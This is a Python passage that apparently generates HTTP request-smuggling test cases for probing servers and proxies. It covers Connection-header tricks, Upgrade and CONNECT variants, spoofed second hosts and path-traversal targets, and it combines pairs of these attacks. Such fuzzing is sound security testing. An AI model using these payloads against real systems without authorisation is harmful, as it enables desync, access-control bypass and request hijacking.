    special = (b"Content-Length", b"Transfer-Encoding", b"Host", b"close", b"keep-alive", b"X-Case", b"X-Last", b"Connection", b"TE", b"Upgrade", b"Expect", b"")
    for name, form, (framing, body) in itertools.product(names, forms, framed):
        value = form.replace(b"%s", name)
        there = [] if name in special else [name + b": v\r\n"]
        yield f"{value!r} {framing[:8]!r}", Draft().add(b"Connection: " + value + b"\r\n", *there, framing).with_body(body)
    for name, place in itertools.product(names, PLACES):
        lower = name.lower() or b"-"
        yield f"{lower!r} {place}", Draft().add(b"connection:" + lower + b"\r\n", place=place).add(length(len(SMUGGLED))).with_body(SMUGGLED)
    for line in (b"Proxy-Connection: close\r\n", b"Proxy-Connection: keep-alive\r\n", b"Keep-Alive: timeout=5\r\n", b"Keep-Alive: 300\r\nConnection: keep-alive\r\n", b"TE: chunked\r\n", b"TE: trailers\r\n", b"TE: trailers, chunked\r\n",
                 b"TE: trailers\r\nConnection: TE\r\n", b"Proxy-Authorization: Basic eA==\r\n", b"Connection: close\r\nConnection: keep-alive\r\n", b"Connection: close\r\nProxy-Connection: keep-alive\r\n"):
        yield f"{line!r}", Draft().add(line, length(len(SMUGGLED))).with_body(SMUGGLED)
    for n in (64, 65, 1000, 20000):
        yield f"{n} options", Draft().add(b"Connection: " + b",".join([b"a"] * n) + b"\r\n", length(len(SMUGGLED))).with_body(SMUGGLED)


def upgrades():
    """M20: other protocols."""
    offers = [b"h2c", b"websocket", b"HTTP/2.0", b"TLS/1.0", b"h2c, websocket", b"WebSocket", b"H2C", b"\"h2c\"", b"h2c;q=1", b"h2", b"x", b"", b",h2c", b"h2c,", b"h2c ", b"http/1.1", b"websocket,h2c", b"x h2c"]
    connections = [b"Connection: Upgrade, HTTP2-Settings\r\n", b"Connection: Upgrade\r\n", b"Connection: upgrade, close\r\n", b"Connection: close\r\n", b"Connection: keep-alive\r\n", b""]
    extras = [b"HTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA\r\n", b"Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n", b"Sec-WebSocket-Version: 777\r\n", b""]
    for offer, connection, extra in itertools.product(offers, connections, extras):
        lines = [b"Upgrade: " + offer + b"\r\n", *filter(None, [connection, extra])]
        yield f"{offer!r} {connection[12:30]!r} {extra[:12]!r}", Draft(b"GET").add(*lines).with_body(SMUGGLED)
    for framing, body in ((length(len(SMUGGLED)), SMUGGLED), (CHUNKED, WRAPPED)):
        for offer in (b"h2c", b"websocket"):
            yield f"with content {offer!r} {framing[:8]!r}", Draft().add(b"Upgrade: " + offer + b"\r\n", b"Connection: Upgrade\r\n", framing).with_body(body)
            two = [b"Upgrade: websocket\r\n", b"Upgrade: " + offer + b"\r\n"]
            yield f"two fields {offer!r} {framing[:8]!r}", Draft().add(*two, b"Connection: Upgrade\r\n", framing).with_body(body)


def connects():
    """M25: CONNECT. What is good and goes to the origin is a tunnel, in which requests follow."""
    targets = [HOST, b"site.test", b"site.test:", b"site.test:0", b"site.test:x", b"site.test:99999", b"site.test:-1", b"site.test:+1", b"site.test:00000 ", b"[::]", b"[::]:", b"[::1", b"::1:80", b"user@" + HOST, b"user:pw@" + HOST,
               b"http://" + HOST, BASE, b"/", b"*", b"/" + HOST, HOST + b"/", HOST + b"?", HOST + b"#", b":80", b"", HOST + b"," + HOST, b"site.test:1:2", b"site.test:0x50", b"site..test:80", b"-:80", b"0x7f.1:80", b"127.1:80",
               b"1:80", b"site.test\\:80", b"*:80", b"site.test:080", b"site_test\xe4:80"]
    framings = [(b"", b""), (length(0), b""), (length(len(SMUGGLED)), SMUGGLED), (CHUNKED, WRAPPED), (b"Content-Length: x\r\n", b""), (b"Transfer-Encoding: x\r\n", b""), (b"Content-Length: 0\r\nContent-Length: 0\r\n", b"")]
    for target, (framing, body) in itertools.product(targets, framings):
        draft = Draft(b"CONNECT").add(*filter(None, [framing])).with_body(body)
        draft.target = target
        yield f"{target!r} {framing[:18]!r}", draft
    for version in (b"HTTP/1.0", b"HTTP/2.0", b"HTTP/0.9"):
        draft = Draft(b"CONNECT", version=version)
        draft.target = HOST
        yield f"{version.decode()}", draft
    for method in (b"connect", b"Connect", b"CONNECT ", b"CONNECTX"):
        draft = Draft(method)
        draft.target = HOST
        yield f"{method!r}", draft
    for value in (b"evil.test", b"", b"a b"):
        draft = Draft(b"CONNECT")
        draft.target, draft.fields[0] = HOST, b"Host: " + value + b"\r\n"
        yield f"Host {value!r}", draft


def other_hosts():
    """M26: each request of a connection for itself."""
    first = Draft(b"GET").head()
    for host, port in itertools.product([b"other.test", b"127.0.0.1", b"localhost", b"site.test.", b"SITE.TEST", b"evil.test"], (b":00000", b":1", b"")):
        second = b"GET http://" + host + port + b"/smuggled/" + ID + b" HTTP/1.1\r\nHost: " + HOST + b"\r\nX-Case: " + ID + b"\r\n\r\n"
        yield f"second target {host + port!r}", first + second + FOLLOW
        mine = b"GET " + BASE + b"mine/" + ID + b" HTTP/1.1\r\nHost: " + host + port + b"\r\nX-Case: " + ID + b"\r\n\r\n"
        yield f"second host {host + port!r}", first + mine + FOLLOW


def paths():
    """M29: targets that somebody might like to tidy up."""
    for path in (b"/%2f", b"/..;/", b"/\\", b"/../", b"/a/../b", b"/./", b"//", b"///a//b", b"/%2e%2e/", b"/..%2f", b"/a%00b", b"/%25", b"/a;b=c", b"/a;", b"/;", b"/%", b"/%zz", b"/%0a", b"/%0D%0a", b"/+", b"/~", b"/a?", b"/?a?b", b"/?a=/../",
                 b"/a%3fb", b"/a%23b", b"/%C3%A4", b"/%c3%a4", b"/A/b", b"/.", b"/..", b"/...", b"/a/..", b"/a/.", b"/a\\..\\b", b"/a//..//b", b"/%5c", b"/*", b"/a,b", b"/[x]", b"/{x}", b"/|", b"/^", b"/`", b"/\"", b"/<>", b"/a:b", b"/a@b", b"/http://x/", b"/a.css/..%2f"):
        draft = Draft(b"GET")
        draft.target = BASE[:-1] + path + (b"&" if b"?" in path else b"/") + ID
        yield f"{path!r}", draft
        short = Draft(b"GET")
        short.target = BASE[:-1] + path
        yield f"{path!r} and no more", short


GROUPS = {"M1": both_framings, "M2": coding_spellings, "M3": lengths_repeated, "M4": length_spellings, "M5": odd_names, "M6": folds, "M7": line_ends,
          "M8": value_controls, "M9": not_fields, "M10": chunk_sizes, "M11": chunk_extensions, "M12": chunk_ends, "M13": trailers, "M14": versions,
          "M15": request_lines, "M16": hosts, "M17": bodies, "M18": pipelines, "M19": connection_options, "M20": upgrades, "M25": connects,
          "M26": other_hosts, "M29": paths}


def combined(one, other):
    """Both attacks in one request: the fields of both, the odder of the first lines, both contents."""
    draft = Draft(one.method if one.method != b"POST" else other.method)
    draft.target = one.target if one.target != Draft().target else other.target
    draft.version = one.version if one.version != b"HTTP/1.1" else other.version
    draft.line = one.line or other.line
    usual = Draft().fields
    mine = [line for line in one.fields if line not in usual]
    draft.fields = mine + list(other.fields)
    draft.end = one.end if one.end != b"\r\n" else other.end
    draft.body = one.body + other.body
    return draft


def pairs(each=4):
    """Pairs of classes: members that are spread over each of both."""
    drafts = {group: [(name, d) for name, d in make() if isinstance(d, Draft)] for group, make in GROUPS.items()}
    for (one, left), (other, right) in itertools.combinations(drafts.items(), 2):
        if not left or not right:
            continue
        for k in range(each):
            a, b = left[(k * len(left)) // each], right[((each - k) * (len(right) - 1)) // each]
            yield f"{one}+{other}", f"{a[0]} + {b[0]}", combined(a[1], b[1])


def all_queries():
    def source():
        for group, make in GROUPS.items():
            for name, draft in make():
                yield group, name, draft if isinstance(draft, bytes) else draft.bytes()
        for group, name, draft in pairs():
            yield group, name, draft.bytes()
    return collect(source())
